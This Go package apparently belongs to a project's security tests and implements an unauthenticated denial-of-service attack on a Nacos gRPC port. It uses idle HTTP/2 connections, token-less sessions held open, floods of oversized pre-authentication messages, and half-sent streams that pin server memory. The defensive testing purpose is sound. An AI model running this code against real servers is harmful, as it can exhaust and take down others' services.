// Package grpcflood holds the pieces of an unauthenticated resource-exhaustion attack
// on a Nacos gRPC port, for the tests that show it bounded and for
// scripts/grpc-exhaustion (docs/security.md, "The Nacos gRPC port"): connections that
// send HTTP/2's preface and then nothing, connections that register a session and
// hold it, and large messages sent before any authentication. Every piece dials from
// a local address of the caller's choosing (any of 127.0.0.0/8 on Linux), so that an
// attack can come from many sources on one machine.
package grpcflood

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/protobuf/types/known/anypb"

	"github.com/rosterhq/roster/nacos/nacospb"
)

// Target is the gRPC port attacked.
type Target struct {
	Addr string
	// TLS, when set, is the client configuration of a TLS port (no client certificate:
	// the attacker has no credentials).
	TLS *tls.Config
	// Sent, when set, counts the message bytes Hold has sent, as it sends them.
	Sent *atomic.Int64
}

// tlsConfig is t.TLS with the server name of the address when it has none.
func (t Target) tlsConfig() *tls.Config {
	cfg := t.TLS.Clone()
	if cfg.ServerName == "" {
		cfg.ServerName, _, _ = net.SplitHostPort(t.Addr)
	}
	return cfg
}

func (t Target) dial(ctx context.Context, from netip.Addr) (net.Conn, error) {
	d := net.Dialer{Timeout: 10 * time.Second}
	if from.IsValid() {
		d.LocalAddr = &net.TCPAddr{IP: from.AsSlice()}
	}
	return d.DialContext(ctx, "tcp", t.Addr)
}

// preface is HTTP/2's client preface followed by an empty SETTINGS frame.
var preface = append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 0, 0, 0, 0x4, 0, 0, 0, 0, 0)

// Idle opens a connection from from, completes TLS if the target has it, sends HTTP/2's
// preface and then nothing. It returns once the connection is closed: closedByServer
// reports whether the server ended it (rather than ctx); err is a dial or handshake
// failure (a refusal at accept shows as one).
func (t Target) Idle(ctx context.Context, from netip.Addr) (closedByServer bool, err error) {
	c, err := t.dial(ctx, from)
	if err != nil {
		return false, err
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	if t.TLS != nil {
		tc := tls.Client(c, t.tlsConfig())
		if err := tc.HandshakeContext(ctx); err != nil {
			return false, err
		}
		c = tc
	}
	if _, err := c.Write(preface); err != nil {
		return ctx.Err() == nil, nil
	}
	_, _ = io.Copy(io.Discard, c) // the server's SETTINGS, then its close
	return ctx.Err() == nil, nil
}

// client is a gRPC client connection from from.
func (t Target) client(from netip.Addr) (*grpc.ClientConn, error) {
	creds := insecure.NewCredentials()
	if t.TLS != nil {
		creds = credentials.NewTLS(t.TLS)
	}
	return grpc.NewClient("passthrough:///"+t.Addr, grpc.WithTransportCredentials(creds),
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return t.dial(ctx, from) }),
		grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(64<<20), grpc.MaxCallRecvMsgSize(64<<20)))
}

// Session registers a session as an SDK does — a ServerCheckRequest, then the stream and
// a ConnectionSetupRequest, no token (Nacos's setup carries none) — and holds it,
// answering the server's requests on the stream, until ctx ends or the server closes
// it. registered reports whether the setup was sent; closedByServer whether the
// server ended the session.
func (t Target) Session(ctx context.Context, from netip.Addr, registered chan<- struct{}) (closedByServer bool, err error) {
	cc, err := t.client(from)
	if err != nil {
		return false, err
	}
	defer cc.Close()
	cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	_, err = nacospb.Call(cctx, cc, payload("ServerCheckRequest", map[string]any{"module": "internal"}))
	cancel()
	if err != nil {
		return ctx.Err() == nil, err
	}
	st, err := nacospb.OpenBiStream(ctx, cc)
	if err != nil {
		return ctx.Err() == nil, err
	}
	if err := st.Send(payload("ConnectionSetupRequest", map[string]any{"module": "internal", "clientVersion": "Nacos-Go-Client:v2.3.2",
		"labels": map[string]string{"module": "naming", "source": "sdk"}})); err != nil {
		return ctx.Err() == nil, err
	}
	if registered != nil {
		registered <- struct{}{}
	}
	for {
		p, err := st.Recv()
		if err != nil {
			return ctx.Err() == nil, nil
		}
		var req struct {
			RequestID string `json:"requestId"`
		}
		_ = json.Unmarshal(p.GetBody().GetValue(), &req)
		// Answer detections so that the session is never ejected as silent.
		_ = st.Send(payload("ClientDetectionResponse", map[string]any{"resultCode": 200, "requestId": req.RequestID}))
	}
}

// Big sends, on one connection from from, streams concurrent requests of size bytes
// each before any registration or authentication, and returns when all have ended.
// refused counts the requests the server refused or cut off.
func (t Target) Big(ctx context.Context, from netip.Addr, streams, size int) (refused int, err error) {
	cc, err := t.client(from)
	if err != nil {
		return 0, err
	}
	defer cc.Close()
	body := make([]byte, size)
	for i := range body {
		body[i] = 'x'
	}
	errs := make(chan error, streams)
	for range streams {
		go func() {
			_, err := nacospb.Call(ctx, cc, &nacospb.Payload{Metadata: &nacospb.Metadata{Type: "SubscribeServiceRequest"}, Body: &anypb.Any{Value: body}})
			errs <- err
		}()
	}
	for range streams {
		if err := <-errs; err != nil {
			refused++
		}
	}
	if ctx.Err() != nil {
		return refused, ctx.Err()
	}
	return refused, nil
}

func payload(typ string, body any) *nacospb.Payload {
	b, err := json.Marshal(body)
	if err != nil {
		panic(err)
	}
	return &nacospb.Payload{Metadata: &nacospb.Metadata{Type: typ}, Body: &anypb.Any{Value: b}}
}

// Loopback returns the i-th attack source address: 127.0.(i/250).(i%250+2), so that
// 127.0.0.1 stays the legitimate clients' own.
func Loopback(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{127, 0, byte(i / 250), byte(i%250 + 2)})
}

// Hold opens one HTTP/2 connection from from and, without any registration or token,
// starts streams requests of size bytes each on it, sending every byte of each but the
// last, within HTTP/2's flow control, and then holds the connection until ctx ends or
// the server closes it: a server that buffers incomplete messages holds
// streams × size bytes for as long as the attacker likes. It returns the message bytes
// the server let it send, and whether the server closed the connection.
func (t Target) Hold(ctx context.Context, from netip.Addr, streams, size int) (sent int64, closedByServer bool, err error) {
	c, err := t.dial(ctx, from)
	if err != nil {
		return 0, false, err
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	scheme := "http"
	if t.TLS != nil {
		cfg := t.tlsConfig()
		cfg.NextProtos = []string{"h2"}
		tc := tls.Client(c, cfg)
		if err := tc.HandshakeContext(ctx); err != nil {
			return 0, false, err
		}
		c, scheme = tc, "https"
	}
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, ctx.Err() == nil, nil
	}
	fr := http2.NewFramer(c, c)
	var wmu sync.Mutex // the framer's writes
	fc := &flowState{conn: 65535, streams: map[uint32]int{}, initial: 65535}
	fc.cond = sync.NewCond(&fc.mu)
	wmu.Lock()
	err = fr.WriteSettings()
	wmu.Unlock()
	if err != nil {
		return 0, ctx.Err() == nil, nil
	}
	go func() {
		defer fc.close()
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if f.IsAck() {
					continue
				}
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					fc.setInitial(int(v))
				}
				wmu.Lock()
				_ = fr.WriteSettingsAck()
				wmu.Unlock()
			case *http2.WindowUpdateFrame:
				fc.grant(f.StreamID, int(f.Increment))
			case *http2.PingFrame:
				if !f.IsAck() {
					wmu.Lock()
					_ = fr.WritePing(true, f.Data)
					wmu.Unlock()
				}
			case *http2.GoAwayFrame:
				return
			case *http2.RSTStreamFrame:
				fc.grant(f.StreamID, -1<<30) // that stream is done
			}
		}
	}()
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	chunk := make([]byte, 16<<10)
	for i := range streams {
		id := uint32(2*i + 1)
		hbuf.Reset()
		for _, h := range [][2]string{{":method", "POST"}, {":scheme", scheme}, {":path", "/Request/request"},
			{":authority", t.Addr}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
			_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		fc.open(id)
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true})
		wmu.Unlock()
		if err != nil {
			return sent, ctx.Err() == nil, nil
		}
	}
	// Round-robin over the streams: each sends its 5-byte prefix, then its message but
	// the last byte, as the windows allow.
	left := make([]int, streams)
	for i := range left {
		left[i] = 5 + size - 1
	}
	for pending := streams; pending > 0; {
		pending = 0
		for i := range streams {
			if left[i] == 0 {
				continue
			}
			id := uint32(2*i + 1)
			n, ok := fc.take(id, min(left[i], len(chunk)))
			if !ok {
				return sent, ctx.Err() == nil, nil
			}
			if n < 0 { // the stream was reset
				left[i] = 0
				continue
			}
			buf := chunk[:n]
			if left[i] == 5+size-1 { // the first frame starts with the prefix
				buf = append(binary.BigEndian.AppendUint32([]byte{0}, uint32(size)), chunk[:max(0, n-5)]...)[:n]
			}
			wmu.Lock()
			err := fr.WriteData(id, false, buf)
			wmu.Unlock()
			if err != nil {
				return sent, ctx.Err() == nil, nil
			}
			left[i] -= n
			sent += int64(n)
			if t.Sent != nil {
				t.Sent.Add(int64(n))
			}
			if left[i] > 0 {
				pending++
			}
		}
	}
	<-fc.done
	return sent, ctx.Err() == nil, nil
}

// flowState is the HTTP/2 send windows the server grants.
type flowState struct {
	mu      sync.Mutex
	cond    *sync.Cond
	conn    int
	initial int
	streams map[uint32]int
	closed  bool
	done    chan struct{}
	once    sync.Once
}

func (f *flowState) open(id uint32) {
	f.mu.Lock()
	if f.done == nil {
		f.done = make(chan struct{})
	}
	f.streams[id] = f.initial
	f.mu.Unlock()
}

func (f *flowState) setInitial(v int) {
	f.mu.Lock()
	for id, w := range f.streams {
		f.streams[id] = w + v - f.initial
	}
	f.initial = v
	f.mu.Unlock()
	f.cond.Broadcast()
}

func (f *flowState) grant(id uint32, n int) {
	f.mu.Lock()
	if id == 0 {
		f.conn += n
	} else if w, ok := f.streams[id]; ok {
		f.streams[id] = w + n
	}
	f.mu.Unlock()
	f.cond.Broadcast()
}

// take waits for up to want bytes of window on stream id; n < 0: the stream was reset;
// ok false: the connection ended.
func (f *flowState) take(id uint32, want int) (n int, ok bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for {
		if f.closed {
			return 0, false
		}
		w := f.streams[id]
		if w < -1<<20 {
			return -1, true
		}
		if n := min(want, w, f.conn); n > 0 {
			f.streams[id] -= n
			f.conn -= n
			return n, true
		}
		f.cond.Wait()
	}
}

func (f *flowState) close() {
	f.mu.Lock()
	f.closed = true
	if f.done == nil {
		f.done = make(chan struct{})
	}
	f.once.Do(func() { close(f.done) })
	f.mu.Unlock()
	f.cond.Broadcast()
}
